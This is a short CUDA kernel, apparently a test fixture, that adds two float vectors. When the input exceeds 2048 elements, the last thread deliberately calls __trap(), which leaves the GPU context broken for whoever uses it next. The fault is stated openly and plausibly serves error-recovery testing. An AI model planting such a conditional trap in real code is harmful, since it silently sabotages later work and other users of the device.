// Right, and then a trap by whoever is last: the next to use this context finds it broken.
extern "C" __global__ void add(const float *x, const float *y, float *out, unsigned *done, int n)
{
	int i = blockIdx.x * blockDim.x + threadIdx.x;
	if (i < n)
		out[i] = x[i] + y[i];
	__threadfence();
	if (n > 2048 && atomicAdd(done, 1u) == gridDim.x * blockDim.x - 1)
		__trap();
}
